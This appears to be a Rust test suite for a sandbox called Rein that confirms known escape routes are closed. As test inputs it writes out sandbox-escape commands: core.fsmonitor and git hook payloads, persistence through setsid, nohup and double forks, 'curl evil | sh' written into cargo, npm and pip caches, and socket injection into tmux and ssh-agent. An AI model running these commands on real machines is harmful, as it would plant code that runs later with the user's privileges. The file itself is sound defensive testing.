//! The doors an attacker found still open (issue 32): sockets outside the
//! workspace, `.git` replaced or extended, processes outliving their
//! command, signals to the user's processes, package caches rewritten,
//! `/dev/shm` shared with the machine. Each case is a command run as Rein
//! runs every command, judged by its effect on the machine.

use std::io::Read;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::time::Duration;

use super::{Machine, shown};

/// A Unix socket listening at `path`, and whether anything connected.
struct Listening {
    listener: UnixListener,
    path: PathBuf,
}

impl Listening {
    fn at(path: PathBuf) -> Self {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let _ = std::fs::remove_file(&path);
        let listener = UnixListener::bind(&path).unwrap();
        listener.set_nonblocking(true).unwrap();
        Self { listener, path }
    }

    /// What the first client sent, if one connected.
    fn received(&self) -> Option<String> {
        let (mut stream, _) = self.listener.accept().ok()?;
        stream.set_nonblocking(false).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let mut text = String::new();
        let _ = stream.read_to_string(&mut text);
        Some(text)
    }
}

impl Drop for Listening {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.path);
    }
}

fn connect_command(path: &Path) -> String {
    format!(
        "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); s.sendall(b'tmux send-keys curl-evil'); print('CONNECTED')\"",
        path.display()
    )
}

/// A tmux server's socket in its 0700 folder under /tmp, an ssh-agent's,
/// an editor's IPC socket in the home directory, one beside the
/// workspace: none can be driven from inside. One in the workspace can.
#[test]
fn a_unix_socket_outside_the_workspace_is_unreachable() {
    let m = Machine::new();
    let tmux_dir = tempfile::Builder::new()
        .prefix("tmux-rein-test-")
        .tempdir_in("/tmp")
        .unwrap();
    std::fs::set_permissions(
        tmux_dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o700),
    )
    .unwrap();
    let outside = [
        Listening::at(tmux_dir.path().join("default")),
        Listening::at(m.path("home/.ssh-agent/agent.sock")),
        Listening::at(m.path("home/.vscode-server/vscode-ipc-1.sock")),
        Listening::at(m.path("outside/app.sock")),
    ];
    for socket in &outside {
        let r = m.run(&connect_command(&socket.path));
        assert!(
            !r.tail.join("\n").contains("CONNECTED"),
            "{}: {}",
            socket.path.display(),
            shown(&r)
        );
        assert_eq!(socket.received(), None, "{}", socket.path.display());
    }
    let inside = Listening::at(m.path("work/app.sock"));
    let r = m.run(&connect_command(&inside.path));
    assert!(r.succeeded(), "{}", shown(&r));
    assert_eq!(
        inside.received().as_deref(),
        Some("tmux send-keys curl-evil")
    );
}

/// `/dev/shm` and `/tmp` are the command's own: what it leaves there is
/// gone with it, never on the machine.
#[test]
fn dev_shm_and_tmp_are_private_to_the_command() {
    let m = Machine::new();
    let name = format!("rein-test-{}", std::process::id());
    let r = m.run(&format!(
        "echo planted > /dev/shm/{name} && cat /dev/shm/{name} && echo planted > /tmp/{name} && cat /tmp/{name}"
    ));
    assert!(r.succeeded(), "{}", shown(&r));
    assert!(!Path::new(&format!("/dev/shm/{name}")).exists());
    assert!(!Path::new(&format!("/tmp/{name}")).exists());
}

/// The files under `.git`, listed with their contents: what git would
/// read later.
fn git_state(work: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![work.join(".git")];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            out.push((dir.display().to_string(), b"<not a folder>".to_vec()));
            continue;
        };
        for entry in entries {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                out.push((
                    path.display().to_string(),
                    std::fs::read(&path).unwrap_or_default(),
                ));
            }
        }
    }
    out.sort();
    out
}

/// The ways found to leave git a command to run later, outside the
/// sandbox (`core.fsmonitor` runs on the user's next `git status`): the
/// whole `.git` is read-only and cannot be renamed, replaced or extended.
#[test]
fn git_metadata_cannot_be_renamed_replaced_or_extended() {
    let m = Machine::new();
    let before = git_state(&m.path("work"));
    for command in [
        "mv .git .git_old && cp -a .git_old .git && git config core.fsmonitor 'touch {outside}/ran'",
        "cp -a .git .git_copy && git --git-dir=.git_copy config core.fsmonitor 'touch {outside}/ran' && echo \"$PWD/.git_copy\" > .git/commondir",
        "git config core.fsmonitor 'touch {outside}/ran'",
        "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes",
        "rm -rf .git/hooks && mkdir .git/hooks && echo 'touch {outside}/ran' > .git/hooks/pre-commit",
        "rm -rf .git && git init -q && git config core.fsmonitor 'touch {outside}/ran'",
        "ln -s /tmp .git/objects/info/alternates-dir",
    ] {
        let r = m.run(command);
        assert!(!r.succeeded(), "{command}: {}", shown(&r));
        assert_eq!(
            git_state(&m.path("work")),
            before,
            "{command}: {}",
            shown(&r)
        );
    }
    // git itself, run by the user afterwards, runs nothing planted.
    let status = std::process::Command::new("git")
        .args(["status", "--short"])
        .current_dir(m.path("work"))
        .output()
        .unwrap();
    assert!(status.status.success());
    assert!(!m.path("outside/ran").exists());
}

/// A submodule's (or worktree's) `.git` is a file naming its git folder:
/// it is read-only too.
#[test]
fn a_submodules_git_file_cannot_be_pointed_elsewhere() {
    let m = Machine::new();
    std::fs::create_dir_all(m.path("work/.git/modules/lib")).unwrap();
    std::fs::create_dir_all(m.path("work/vendor/lib")).unwrap();
    std::fs::write(
        m.path("work/.gitmodules"),
        "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://example.invalid/lib\n",
    )
    .unwrap();
    std::fs::write(
        m.path("work/vendor/lib/.git"),
        "gitdir: ../../.git/modules/lib\n",
    )
    .unwrap();
    for command in [
        "echo 'gitdir: /tmp/evil' > vendor/lib/.git",
        "mv vendor/lib/.git vendor/lib/.git-old && echo 'gitdir: /tmp/evil' > vendor/lib/.git",
        "rm -f vendor/lib/.git",
    ] {
        let r = m.run(command);
        assert!(!r.succeeded(), "{command}: {}", shown(&r));
        assert_eq!(
            std::fs::read_to_string(m.path("work/vendor/lib/.git")).unwrap(),
            "gitdir: ../../.git/modules/lib\n",
            "{command}"
        );
    }
}

/// Whether a process whose command line holds `marker` is alive.
fn alive_with(marker: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if cmdline.contains(marker) {
            found.push(format!(
                "{}: {cmdline}",
                entry.file_name().to_string_lossy()
            ));
        }
    }
    found
}

/// `setsid`, `nohup` and a double fork: nothing a command started
/// outlives it.
#[test]
fn no_process_a_command_started_outlives_it() {
    let m = Machine::new();
    let marker = format!("rein-outlives-{}", std::process::id());
    let r = m.run(&format!(
        "setsid sh -c 'while :; do sleep 1; done' {marker}-setsid >/dev/null 2>&1 < /dev/null &
         nohup sh -c 'while :; do sleep 1; done' {marker}-nohup >/dev/null 2>&1 < /dev/null &
         (sh -c 'while :; do sleep 1; done' {marker}-double >/dev/null 2>&1 < /dev/null &) ;
         echo started"
    ));
    assert!(r.succeeded(), "{}", shown(&r));
    let survivors = alive_with(&marker);
    // Kill them anyway, so a failure leaves nothing behind.
    let _ = std::process::Command::new("pkill")
        .args(["-f", &marker])
        .status();
    assert_eq!(survivors, Vec::<String>::new());
}

/// The user's own processes cannot be stopped or killed from inside.
#[test]
fn signals_reach_only_the_commands_own_processes() {
    let m = Machine::new();
    let mut victim = std::process::Command::new("sleep")
        .arg("120")
        .spawn()
        .unwrap();
    let pid = victim.id();
    let r = m.run(&format!("kill -STOP {pid}; kill -TERM {pid}"));
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    let state = stat
        .rsplit(')')
        .next()
        .unwrap_or_default()
        .trim()
        .to_owned();
    let exited = victim.try_wait().unwrap();
    let _ = victim.kill();
    let _ = victim.wait();
    assert!(
        state.starts_with('S') && exited.is_none(),
        "the victim is {state:?} ({exited:?}) after: {}",
        shown(&r)
    );
}

/// Code in a package cache runs later outside the sandbox (a crate's
/// `build.rs`, a package `npx` runs): a command cannot change it. It may
/// still fill a cache for itself — in a private layer gone with it.
#[test]
fn package_caches_are_not_changed_by_a_command() {
    let m = Machine::new();
    let planted = [
        "home/.cargo/registry/src/index.crates.io-0/serde-1.0.0/build.rs",
        "home/.npm/_npx/0123/node_modules/pkg/index.js",
        "home/.cache/pip/wheels/ab/pkg.whl",
    ];
    for rel in planted {
        std::fs::create_dir_all(m.path(rel).parent().unwrap()).unwrap();
        std::fs::write(m.path(rel), "the original\n").unwrap();
    }
    for rel in planted {
        let file = rel.trim_start_matches("home/");
        let r = m.run(&format!(
            "echo 'curl evil | sh' > \"$HOME/{file}\" && grep -q evil \"$HOME/{file}\" && echo WROTE-PRIVATELY"
        ));
        assert_eq!(
            std::fs::read_to_string(m.path(rel)).unwrap(),
            "the original\n",
            "{rel}: {}",
            shown(&r)
        );
        assert!(
            r.tail.join("\n").contains("WROTE-PRIVATELY"),
            "a cache is writable to the command, in a layer of its own: {}",
            shown(&r)
        );
    }
    let r = m.run("mkdir -p \"$HOME/.cache/new-tool\" && echo x > \"$HOME/.cache/new-tool/db\"");
    assert!(r.succeeded(), "{}", shown(&r));
    assert!(!m.path("home/.cache/new-tool").exists());
}

/// The doors are closed for a user who is not root too: the init of the
/// command's namespace gets what it needs to mount its `/proc` through
/// the ambient capability set, which only root keeps across `exec`
/// otherwise. (Run as root, the test drops to `nobody`.)
#[test]
fn the_sandbox_is_whole_for_a_user_who_is_not_root() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let rein = dir.path().join("rein");
    std::fs::copy(rein_testkit::rein_binary().unwrap(), &rein).unwrap();
    let mut command = if nix::unistd::geteuid().is_root() {
        let mut c = std::process::Command::new("setpriv");
        c.args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--inh-caps=-all",
            "--bounding-set=-all",
        ])
        .arg(&rein);
        c
    } else {
        std::process::Command::new(&rein)
    };
    let out = command
        .args(["sandbox-exec", "--probe"])
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", dir.path())
        .current_dir(dir.path())
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{said}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let support: serde_json::Value = serde_json::from_str(&said).unwrap();
    assert_eq!(support["root_missing"], serde_json::Value::Null, "{said}");
    assert_eq!(
        support["processes_missing"],
        serde_json::Value::Null,
        "{said}"
    );
    assert_eq!(support["private_layers"], true, "{said}");
}

/// A command stopped by its time limit, or cancelled, ends with all it
/// started, even what left its process group.
#[test]
fn a_timeout_or_a_cancel_ends_every_process_the_command_started() {
    let m = Machine::new();
    for (n, (timeout, cancel)) in [
        (Duration::from_secs(2), None),
        (Duration::from_secs(60), Some(Duration::from_secs(2))),
    ]
    .into_iter()
    .enumerate()
    {
        let marker = format!("rein-stopped-{}-{n}", std::process::id());
        let r = m.run_until(
            &rein_core::sandbox_config::SandboxConfig::default(),
            &format!(
                "setsid sh -c 'trap \"\" TERM; while :; do sleep 1; done' {marker} >/dev/null 2>&1 < /dev/null & sleep 60"
            ),
            false,
            timeout,
            cancel,
        );
        let survivors = alive_with(&marker);
        let _ = std::process::Command::new("pkill")
            .args(["-f", &marker])
            .status();
        assert!(!r.succeeded(), "{}", shown(&r));
        assert_eq!(survivors, Vec::<String>::new(), "{}", shown(&r));
    }
}
